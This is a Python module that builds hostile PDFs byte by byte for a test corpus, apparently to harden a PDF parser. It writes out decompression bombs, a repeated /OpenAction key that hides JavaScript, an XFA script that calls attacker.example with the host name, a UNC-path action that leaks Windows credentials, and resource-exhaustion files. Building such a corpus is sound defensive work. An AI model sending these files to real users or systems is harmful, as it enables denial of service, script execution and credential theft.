"""Hand-assembled PDFs for the hostile corpus: what pypdf's writer refuses to write (repeated keys,
actions to shares, references to nothing, object-stream floods), built byte by byte."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

MIB = 1024 * 1024

FLATE_BOMB_BYTES = 400 * MIB  # inflated size of flate_bomb.pdf's content stream
HIDDEN_BOMB_BYTES = 300 * MIB  # inflated size of the second /Contents of repeated_contents_bomb.pdf
MISSING_OBJECTS = 40_000  # references to undefined objects in missing_objects.pdf
FLOOD_ARRAYS, FLOOD_LENGTH = 5, 90_000  # object_stream_flood.pdf: arrays of zeros in one object stream
PAGE_TEXT = b"BT /F1 12 Tf 72 770 Td (Compte rendu de biologie) Tj ET"


def assemble_pdf(objects: list[bytes], trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF whose object n is `objects[n - 1]` (1: the catalog), with a correct cross-reference table.

    `tail` goes after the objects, before the table (padding, comments).
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += tail
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def page_pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    more: list[bytes] | None = None,
    tail: bytes = b"",
    resources: bytes = b"",
    contents: bytes = PAGE_TEXT,
    content_entries: bytes = b"",
) -> bytes:
    """A one-page PDF with a line of text: catalog 1, pages 2, page 3, font 4, contents 5, then `more` from 6.

    `catalog`, `page` and `resources` are added to those dictionaries; `contents` (with `content_entries`) is
    the page's content stream.
    """
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> "
            + resources
            + b" >> /Contents 5 0 R "
            + page
            + b" >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            stream(contents, content_entries),
            *(more or []),
        ],
        tail=tail,
    )


def deflated_zeros(size: int) -> bytes:
    """zlib of `size` zero bytes, compressed 1 MiB at a time."""
    compressor = zlib.compressobj(9)
    zeros = bytes(MIB)
    parts = [compressor.compress(zeros) for _ in range(size // MIB)]
    parts.append(compressor.compress(bytes(size % MIB)))
    parts.append(compressor.flush())
    return b"".join(parts)


def repeated_open_action_pdf() -> bytes:
    """/OpenAction twice: pypdf keeps the first (a harmless view), viewers the last (JavaScript)."""
    return page_pdf(
        catalog=b"/OpenAction [3 0 R /Fit] /OpenAction 6 0 R",
        more=[b"<< /S /JavaScript /JS (app.alert\\('hidden behind a repeated key'\\);) >>"],
    )


def write_repeated_contents_bomb_pdf(path: Path) -> None:
    """/Contents twice: pypdf reads the small page, viewers inflate the second, HIDDEN_BOMB_BYTES of zeros."""
    bomb = stream(deflated_zeros(HIDDEN_BOMB_BYTES), b"/Filter /FlateDecode ")
    path.write_bytes(page_pdf(page=b"/Contents 6 0 R", more=[bomb]))


def xfa_script_pdf() -> bytes:
    """An XFA form whose template runs JavaScript on opening."""
    template = (
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('http://attacker.example/?' + xfa.host.name);</script></event></subform></template>"
    )
    return page_pdf(catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", more=[stream(template)])


def remote_action_pdf(kind: bytes = b"/GoToR", target: bytes = b"(\\\\\\\\attacker.example\\\\share\\\\cr.pdf)") -> bytes:
    """An /OpenAction opening a file on a UNC path (\\\\attacker.example\\share\\cr.pdf): Windows sends the reader's credentials."""
    key = b"/URI" if kind == b"/URI" else b"/F"
    return page_pdf(catalog=b"/OpenAction << /S " + kind + b" " + key + b" " + target + b" /D [0 /Fit] >>")


def missing_objects_pdf(count: int = MISSING_OBJECTS) -> bytes:
    """A page citing `count` objects no table lists, after a megabyte of comment: a search of the file per reference."""
    references = b" ".join(b"%d 0 R" % (1000 + n) for n in range(count))
    return page_pdf(catalog=b"/Extra 6 0 R", more=[b"[" + references + b"]"], tail=b"%" + b"x" * MIB + b"\n")


def object_stream_flood_pdf(arrays: int = FLOOD_ARRAYS, length: int = FLOOD_LENGTH) -> bytes:
    """A few kilobytes whose object stream inflates into `arrays` arrays of `length` zeros, all reachable."""
    first = 6
    bodies = [b"[" + b"0 " * length + b"]" for _ in range(arrays)]
    header, offset = b"", 0
    for n, body in enumerate(bodies):
        header += b"%d %d " % (first + n, offset)
        offset += len(body) + 1
    payload = header + b"".join(body + b" " for body in bodies)
    catalog = b"/Extra [" + b" ".join(b"%d 0 R" % (first + n) for n in range(arrays)) + b"]"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"null",
        b"null",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    objstm = first + arrays
    offsets.append(len(out))
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (arrays, len(header))
    out += b"%d 0 obj\n" % objstm + stream(zlib.compress(payload, 9), entries) + b"\nendobj\n"
    xref_number = objstm + 1
    xref_offset = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    rows += [b"\x01" + struct.pack(">IH", offset, 0) for offset in offsets[:5]]
    rows += [b"\x02" + struct.pack(">IH", objstm, n) for n in range(arrays)]
    rows += [b"\x01" + struct.pack(">IH", offsets[5], 0), b"\x01" + struct.pack(">IH", xref_offset, 0)]
    table = zlib.compress(b"".join(rows))
    xref_entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode " % (xref_number + 1)
    out += b"%d 0 obj\n" % xref_number + stream(table, xref_entries) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def write_flate_bomb_pdf(path: Path, inflated: int = FLATE_BOMB_BYTES) -> None:
    """A one-page PDF whose content stream is FlateDecode of `inflated` zero bytes (~1000:1); only the
    compressed stream (~400 KB for 400 MiB) is ever held."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page]
    path.write_bytes(assemble_pdf([*objects, stream(deflated_zeros(inflated), b"/Filter /FlateDecode ")]))
